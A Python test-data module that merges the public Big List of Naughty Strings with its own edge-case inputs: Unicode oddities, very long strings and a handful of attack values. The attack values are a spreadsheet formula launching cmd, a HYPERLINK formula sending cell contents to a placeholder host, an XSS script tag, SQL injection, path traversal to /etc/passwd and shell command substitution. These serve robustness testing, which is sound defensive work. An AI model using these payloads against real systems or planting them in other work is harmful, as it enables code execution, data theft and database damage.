"""Texts that have broken programs: a public list of them, and what it lacks."""

import json
from pathlib import Path

_PUBLIC: list[str] = json.loads(
    Path(__file__).with_name("blns").joinpath("blns.json").read_text(encoding="utf-8")
)
"""The Big List of Naughty Strings; `blns/README.md` says where it is from."""

_OURS = [
    "\n",
    "\t",
    '","',
    ";",
    "a;b,c\td",
    "+1",
    "007",
    "1e999",
    "2026-11-21",
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "@SUM(1)",
    "-2+3",
    "'=1+1",
    "''=1+1",
    "words;=1+1",
    'words",=1+1',
    "one\n- two\n+ three\n= four",
    "\u200b",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "\ufeffbefore",
    "middle\ufeff",
    "<script>alert(1)</script>",
    "<b>&amp;&lt;",
    "]]>",
    "<!-- -->",
    "</style><style>",
    "[link=https://example.invalid]x[/link]",
    "[/]",
    "[@click=app.quit]x[/]",
    "# heading\n* list\n1. one\n> quoted\n```",
    "\\n",
    "%s %d {0} {name} ${HOME} $(id) `id`",
    "'; DROP TABLE entries; --",
    "../../etc/passwd",
    "C:\\CON",
    "é e\u0301",
    "ﬁ ligature",
    "İıŞ",
    "עברית ועוד",
    "العربية",
    "\u061c\u200e\u200f",
    "日本語 中文 한국어",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🌿",
    "🇨🇭",
    "Z̸̢͔a̷l̶g̵o̴",
    "line\u2028separator\u2029paragraph",
    "\u00a0no break\u00a0",
    "\uffff\ufffe",
    "\U0010ffff",
    "a" * 5000,
    "word " * 1000,
    "\n" * 50,
]

NAUGHTY = list(dict.fromkeys([*_PUBLIC, *_OURS]))
